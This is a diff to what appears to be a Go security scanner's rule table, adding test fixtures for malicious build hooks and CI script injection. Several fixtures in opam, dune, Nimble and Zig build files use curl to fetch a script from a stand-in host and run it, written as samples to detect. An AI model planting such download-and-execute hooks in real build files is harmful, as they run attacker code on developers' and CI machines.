@@ -299,6 +299,13 @@ var registry = []Rule{
 		{"conanfile.py", "class X(ConanFile):\n    def build(self):\n        self.run(\"wget -qO /tmp/b.sh https://x.invalid/b.sh\")\n        self.run(\"bash /tmp/b.sh\")", 4, false},
 		{"noxfile.py", "@nox.session\ndef t(session):\n    session.run(\"curl\", \"-fsSLo\", \"/tmp/b.sh\", \"https://x.invalid/b.sh\", external=True)\n    session.run(\"sh\", \"/tmp/b.sh\", external=True)", 4, false},
 		{"setup.py", "import subprocess\nsubprocess.check_call([\"git\", \"submodule\", \"update\", \"--init\"])\nsubprocess.check_call(\"make -C build -j4\", shell=True)\nsubprocess.check_call([\"cmake\", \"-S\", \".\", \"-B\", \"build\", f\"-DPYTHON={sys.executable}\"])", 0, true},
+		// opam's build lists, dune's actions, a Nimble task's exec, Zig's
+		// addSystemCommand, simple-git-hooks in package.json.
+		{"x.opam", "opam-version: \"2.0\"\nbuild: [[\"sh\" \"-c\" \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"] [\"sh\" \"/tmp/b.sh\"]]", 2, false},
+		{"x.opam", "opam-version: \"2.0\"\ndepends: [\n  \"dune\" {>= \"3.0\"}\n]\nbuild: [\n  [\"dune\" \"build\" \"-p\" name \"-j\" jobs]\n]", 0, true},
+		{"src/dune", "(rule\n (targets a.ml)\n (action (system \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\")))\n(rule\n (targets b.ml)\n (action (run sh /tmp/b.sh)))", 6, false},
+		{"x.nimble", "version = \"0.1.0\"\nbefore install:\n  exec \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"\n  exec \"sh /tmp/b.sh\"", 4, false},
+		{"build.zig", "pub fn build(b: *std.Build) void {\n    const a = b.addSystemCommand(&.{ \"curl\", \"-fsSLo\", \"/tmp/b.sh\", \"https://x.invalid/b.sh\" });\n    const r = b.addSystemCommand(&.{ \"sh\", \"/tmp/b.sh\" });\n}", 3, false},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
@@ -1236,7 +1243,7 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: git diff origin/${{ github.event.pull_request.base.ref }}", 0, true},
 		}},
 	{"ci-script-injection", KindExecute, High, "a CI system writes pull-request text into a script before the shell reads it (script injection)",
-		"the CI system substitutes a branch name, a title, a commit message or an author's name into the script's text (Azure's $(…) macros, Buildkite's upload-time $VAR, Drone's and Woodpecker's ${…}, Groovy's \"${…}\" in a Jenkins sh step, Pipelines as Code's {{ }}): whoever opens the pull request writes shell code that runs with the pipeline's variables and tokens", []Case{
+		"the CI system substitutes a pull request's branch name, its title or a commit message into the script's text (Azure's $(…) macros, Buildkite's upload-time $VAR, Drone's and Woodpecker's ${…}, Groovy's \"${…}\" in a Jenkins sh step, Pipelines as Code's {{ }}): whoever opens the pull request writes shell code that runs with the pipeline's variables and tokens", []Case{
 			{"azure-pipelines.yml", "trigger: [main]\npr: [main]\nsteps:\n  - script: |\n      if [[ \"$(Build.SourceVersionMessage)\" == *\"[docs]\"* ]]; then make docs; fi", 5, false},
 			{"Jenkinsfile", "pipeline {\n  agent any\n  stages {\n    stage('notify') {\n      steps {\n        sh \"./ci/notify.sh '${env.CHANGE_TITLE}'\"\n      }\n    }\n  }\n}", 6, false},
 			{".buildkite/pipeline.yml", "steps:\n  - label: changelog\n    command: ./ci/changelog.sh \"$BUILDKITE_MESSAGE\"", 3, false},
@@ -1249,6 +1256,10 @@ var registry = []Rule{
 			{".buildkite/pipeline.yml", "steps:\n  - command: ./ci/changelog.sh \"$$BUILDKITE_MESSAGE\"", 0, true},
 			{"Jenkinsfile", "node {\n  sh './ci/notify.sh \"$CHANGE_TITLE\"'\n  sh \"./ci/notify.sh \\$CHANGE_TITLE\"\n}", 0, true},
 			{"azure-pipelines.yml", "steps:\n  - script: echo $(System.PullRequest.TargetBranch) $(Build.BuildNumber)\n    displayName: $(Build.SourceVersionMessage)", 0, true},
+			// Who ran the build, written into git config, and a pushed
+			// branch's name are the pipeline's own business.
+			{"azure-pipelines.yml", "steps:\n  - script: |\n      git config user.name \"$(Build.RequestedFor)\"\n      git config user.email \"$(Build.RequestedForEmail)\"", 0, true},
+			{".buildkite/pipeline.yml", "steps:\n  - label: deploy\n    command: ./deploy.sh \"$BUILDKITE_BRANCH\"", 0, true},
 		}},
 	{"gha-env-injection", KindExecute, High, "writes untrusted pull-request text into GITHUB_ENV or GITHUB_PATH",
 		"every later step of the job runs with what the pull request's author chose as its environment", nil},
